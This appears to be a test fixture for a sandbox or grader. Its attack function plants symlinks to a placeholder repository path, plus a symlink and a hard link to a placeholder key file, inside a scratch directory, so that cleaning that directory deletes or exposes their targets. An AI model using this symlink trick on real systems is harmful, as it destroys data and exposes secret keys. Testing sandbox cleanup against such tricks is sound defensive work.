"""Leaves links to the repository in its scratch directory, so that clearing it up removes what they lead to."""

import contextlib
import os

REPOSITORY = "__REPOSITORY__"


def attack(X, y):
    os.makedirs("deep/deeper")
    for place in ("link", "deep/link", "deep/deeper/link"):
        with contextlib.suppress(OSError):
            os.symlink(REPOSITORY, place)
    with contextlib.suppress(OSError):
        os.symlink("__KEY_PATH__", "deep/file")
    with contextlib.suppress(OSError):
        os.link("__KEY_PATH__", "deep/hard")
    return False
